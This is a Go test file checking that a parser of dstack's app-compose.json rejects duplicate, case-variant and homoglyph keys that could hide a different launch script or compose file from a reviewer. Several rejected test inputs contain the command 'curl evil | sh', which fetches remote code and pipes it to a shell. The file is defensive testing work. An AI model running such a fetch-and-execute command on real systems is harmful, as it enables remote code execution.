package compose_test

import (
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cvmgate/cvmgate/verify/compose"
)

// TestParseKeysExactly: dstack reads app-compose.json with serde (exact
// keys, a duplicate of a known key fails the boot) and with jq (the last
// duplicate wins), so a duplicate or a case-variant of a key dstack reads
// could show a reader a script or compose file other than the one that
// runs. Each is refused.
func TestParseKeysExactly(t *testing.T) {
	const pinned = `"services:\n  a:\n    image: x@` + evPinnedDigest + `\n"`
	tests := []struct {
		name, raw, found string
	}{
		{"duplicate pre_launch_script", `{"runner":"docker-compose","pre_launch_script":"echo ok","pre_launch_script":"curl evil | sh"}`, `a second "pre_launch_script"`},
		{"duplicate docker_compose_file", `{"docker_compose_file":` + pinned + `,"docker_compose_file":"services:\n  a:\n    image: evil\n"}`, `a second "docker_compose_file"`},
		{"duplicate runner", `{"runner":"docker-compose","runner":"bash"}`, `a second "runner"`},
		{"duplicate unknown key", `{"x":1,"x":2}`, `a second "x"`},
		{"duplicate through an escape", `{"bash_script":"a","bash\u005fscript":"b"}`, `a second "bash_script"`},
		{"case-variant pre_launch_script", `{"runner":"docker-compose","Pre_Launch_Script":"curl evil | sh"}`, `"Pre_Launch_Script"`},
		{"case-variant docker_compose_file", `{"docker_compose_file":"services:\n  a:\n    image: evil:latest\n","Docker_Compose_File":` + pinned + `}`, `"Docker_Compose_File"`},
		{"only a case-variant", `{"DOCKER_COMPOSE_FILE":` + pinned + `}`, `"DOCKER_COMPOSE_FILE"`},
		{"case-variant runner", `{"RUNNER":"docker-compose"}`, `"RUNNER"`},
		{"case-variant init_script", `{"INIT_SCRIPT":"x"}`, `"INIT_SCRIPT"`},
		{"Kelvin sign folds to k", `{"\u212Ams_enabled":true}`, `"kms_enabled" spelled exactly`},
		{"trailing value", `{"runner":"docker-compose"} {"runner":"bash"}`, "nothing after the JSON object"},
		{"trailing junk", `{"runner":"docker-compose"}x`, "nothing after the JSON object"},
		{"invalid UTF-8", "{\"name\":\"\xff\"}", "invalid UTF-8"},
		{"runner not a string", `{"runner":["bash"]}`, "runner: expected a string, found an array"},
		{"allowed_envs not a list", `{"allowed_envs":"PATH"}`, "allowed_envs: expected a list of strings"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c, err := compose.Parse([]byte(tc.raw))
			assert.Nil(t, c)
			require.ErrorIs(t, err, compose.ErrMalformed)
			assert.Contains(t, err.Error(), "expected")
			assert.Contains(t, err.Error(), tc.found)
		})
	}
}

// TestParseKeysAccepted: keys that only look alike, and whitespace, are
// fine.
func TestParseKeysAccepted(t *testing.T) {
	tests := []struct {
		name, raw string
	}{
		{"unknown keys in any case", `{"Foo":1,"foo":2,"FOO":3}`},
		{"a longer key", `{"docker_compose_file_backup":"x","pre_launch_scripts":"y"}`},
		{"nested duplicates are not read", `{"port_policy":{"a":1,"a":2}}`},
		{"whitespace around", " \n{\"runner\" : \"docker-compose\"}\n "},
		{"many keys", "{" + manyKeys(1000) + "}"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c, err := compose.Parse([]byte(tc.raw))
			require.NoError(t, err)
			assert.Equal(t, tc.raw, c.Raw)
		})
	}
}

// manyKeys returns n distinct JSON members "k0":0,"k1":1,...
func manyKeys(n int) string {
	var b strings.Builder
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(`"k`)
		b.WriteString(strconv.Itoa(i))
		b.WriteString(`":0`)
	}
	return b.String()
}
